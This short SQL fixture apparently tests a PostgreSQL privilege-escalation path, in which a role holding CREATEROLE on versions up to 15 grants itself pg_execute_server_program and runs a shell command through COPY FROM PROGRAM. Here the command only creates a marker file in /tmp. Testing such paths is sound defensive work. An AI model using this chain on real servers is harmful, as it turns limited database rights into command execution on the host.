-- way: create a role that is a member of a predefined role which runs programs
-- source: write-up: CREATEROLE is nearly superuser before PostgreSQL 16 (2023)
-- versions: -15
-- control: CREATEROLE
-- section: application
SET ROLE NONE;
GRANT pg_execute_server_program TO CURRENT_USER;
CREATE TEMP TABLE line (line text);
COPY line FROM PROGRAM 'touch /tmp/climb_role_in_role_$$';
CREATE ROLE climb_runner IN ROLE pg_execute_server_program;
-- section: control
ALTER ROLE :"login" CREATEROLE;
